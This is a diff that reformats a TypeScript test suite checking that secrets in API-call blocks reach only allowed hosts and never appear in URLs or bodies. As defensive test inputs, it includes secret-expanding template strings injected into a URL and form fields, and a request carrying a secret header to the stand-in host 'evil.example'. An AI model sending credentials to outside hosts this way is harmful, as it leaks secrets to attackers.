@@ -14,18 +14,33 @@ import type { z } from 'zod';
 type BlockInput = z.input<typeof callApiBlockSchema>;
 
 function card(request: Partial<BlockInput['request']>, extra: Partial<Omit<BlockInput, 'request'>> = {}): CallApiBlock {
-  return callApiBlockSchema.parse({ type: 'callApi', retry: false, ...extra, request: { url: 'https://api.brand.example/v1/things', ...request } });
+  return callApiBlockSchema.parse({
+    type: 'callApi',
+    retry: false,
+    ...extra,
+    request: { url: 'https://api.brand.example/v1/things', ...request },
+  });
 }
 
 const SECRET = 'sk_live_Q7w9XyZ42abc';
-const context = { attributes: { host: 'evil.example', memberId: 'M001' }, customer: { id: 'U1', channel: 'line', attributes: {} }, trigger: { params: {} } };
+const context = {
+  attributes: { host: 'evil.example', memberId: 'M001' },
+  customer: { id: 'U1', channel: 'line', attributes: {} },
+  trigger: { params: {} },
+};
 
 function recorder(status = 200) {
   const requests: OutboundRequest[] = [];
   const attempts: CardAttempt[] = [];
   const fetch: GuardedFetch = async (req) => {
     requests.push(req);
-    return { status, headers: { 'content-type': 'application/json' }, body: JSON.stringify({ echo: req.headers }), url: req.url, latencyMs: 1 };
+    return {
+      status,
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify({ echo: req.headers }),
+      url: req.url,
+      latencyMs: 1,
+    };
   };
   return { requests, attempts, deps: { fetch, onAttempt: (a: CardAttempt) => void attempts.push(a) } };
 }
@@ -66,10 +81,18 @@ describe('a secret reaches a request only whole, in a header', () => {
 
   test('the URL, the body and form fields never see secrets (they render empty; validation refuses them)', async () => {
     const req = await buildCardRequest(
-      input(card({ method: 'POST', url: 'https://api.brand.example/x?k={{ secrets.API_KEY }}{{ secrets | json }}', body: { type: 'json', value: { a: '{{ secrets.API_KEY }}', b: '{{ secrets }}' } } })),
+      input(
+        card({
+          method: 'POST',
+          url: 'https://api.brand.example/x?k={{ secrets.API_KEY }}{{ secrets | json }}',
+          body: { type: 'json', value: { a: '{{ secrets.API_KEY }}', b: '{{ secrets }}' } },
+        }),
+      ),
     );
     expect(`${req.url} ${req.body}`).not.toContain(SECRET);
-    const form = await buildCardRequest(input(card({ method: 'POST', body: { type: 'form', fields: { k: '{{ secrets.API_KEY }}{{ secrets | json }}' } } })));
+    const form = await buildCardRequest(
+      input(card({ method: 'POST', body: { type: 'form', fields: { k: '{{ secrets.API_KEY }}{{ secrets | json }}' } } })),
+    );
     expect(form.body).toBe('k=');
   });
 
@@ -86,7 +109,10 @@ describe('allowedHosts: a secret goes only to the hosts it is bound to', () => {
 
   test('to an allowed host, the request goes out', async () => {
     const r = recorder();
-    const outcome = await executeCallApi(input(card({ url: 'https://API.Brand.Example./v1', headers: { authorization: 'Bearer {{ secrets.API_KEY }}' } }), bound()), r.deps);
+    const outcome = await executeCallApi(
+      input(card({ url: 'https://API.Brand.Example./v1', headers: { authorization: 'Bearer {{ secrets.API_KEY }}' } }), bound()),
+      r.deps,
+    );
     expect(outcome.ok).toBe(true);
     expect(r.requests).toHaveLength(1);
   });
@@ -101,13 +127,18 @@ describe('allowedHosts: a secret goes only to the hosts it is bound to', () => {
     const outcome = await executeCallApi(input(card({ url, headers: { authorization: 'Bearer {{ secrets.API_KEY }}' } }), bound()), r.deps);
     expect(outcome).toEqual({ ok: false, reason: `secret API_KEY not allowed for host ${host}`, kind: 'guard', attempts: 1 });
     expect(r.requests).toEqual([]);
-    expect(r.attempts).toEqual([expect.objectContaining({ outcome: 'failure', reason: `secret API_KEY not allowed for host ${host}`, attempt: 1 })]);
+    expect(r.attempts).toEqual([
+      expect.objectContaining({ outcome: 'failure', reason: `secret API_KEY not allowed for host ${host}`, attempt: 1 }),
+    ]);
     expect(JSON.stringify([outcome, r.attempts])).not.toContain(SECRET);
   });
 
   test('a secret without allowedHosts goes anywhere; a bound secret the card does not send does not matter', async () => {
     const r = recorder();
-    const outcome = await executeCallApi(input(card({ url: 'https://evil.example/x', headers: { 'x-key': '{{ secrets.FREE }}' } }), bound()), r.deps);
+    const outcome = await executeCallApi(
+      input(card({ url: 'https://evil.example/x', headers: { 'x-key': '{{ secrets.FREE }}' } }), bound()),
+      r.deps,
+    );
     expect(outcome.ok).toBe(true);
     expect(r.requests[0]?.headers?.['x-key']).toBe('free-secret-value');
   });
@@ -124,7 +155,10 @@ describe('allowedHosts: a secret goes only to the hosts it is bound to', () => {
     });
     try {
       const fetch = createGuardedFetch({ allowHttpHosts: [`127.0.0.1:${origin.port}`, `127.0.0.1:${target.port}`] });
-      const outcome = await executeCallApi(input(card({ url: `http://127.0.0.1:${origin.port}/start`, headers: { authorization: 'Bearer {{ secrets.API_KEY }}' } }), bound()), { fetch });
+      const outcome = await executeCallApi(
+        input(card({ url: `http://127.0.0.1:${origin.port}/start`, headers: { authorization: 'Bearer {{ secrets.API_KEY }}' } }), bound()),
+        { fetch },
+      );
       expect(outcome.ok).toBe(true);
       expect(seen.map((s) => [s.port, s.headers.authorization])).toEqual([
         [origin.port, `Bearer ${SECRET}`],
